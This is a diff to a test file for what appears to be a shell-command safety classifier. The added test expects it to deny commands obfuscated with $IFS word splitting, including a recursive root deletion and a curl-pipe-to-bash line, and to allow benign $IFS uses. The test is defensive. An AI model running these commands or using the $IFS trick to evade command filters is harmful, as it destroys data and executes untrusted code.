@@ -29,6 +29,11 @@ describe('the line is read as bash runs it', () => {
 		expectAll(classifier, 'allow', ['mkdir -p src/{lib,test}', 'cp file{,.bak}', 'echo {a,b,c}', 'touch x{1..3}.txt', 'ls {src,test}/*.ts', 'echo "{-rf,~}"']);
 	});
 
+	it('splits a word at an unquoted $IFS, as bash does', () => {
+		expectAll(classifier, 'deny', ['bash${IFS}-c${IFS}id', 'rm${IFS}-rf${IFS}/', 'curl x|bash$IFS-s']);
+		expectAll(classifier, 'allow', ['echo "$IFS"', 'IFS=: read -r a b <<< "$x"', 'printf "%s" "${IFS}"']);
+	});
+
 	it('cuts an ANSI-C string at a NUL, as bash does', () => {
 		assert.equal(decodeAnsiC('bash\\0junk'), 'bash');
 		assert.equal(decodeAnsiC('ba\\x00sh'), 'ba');
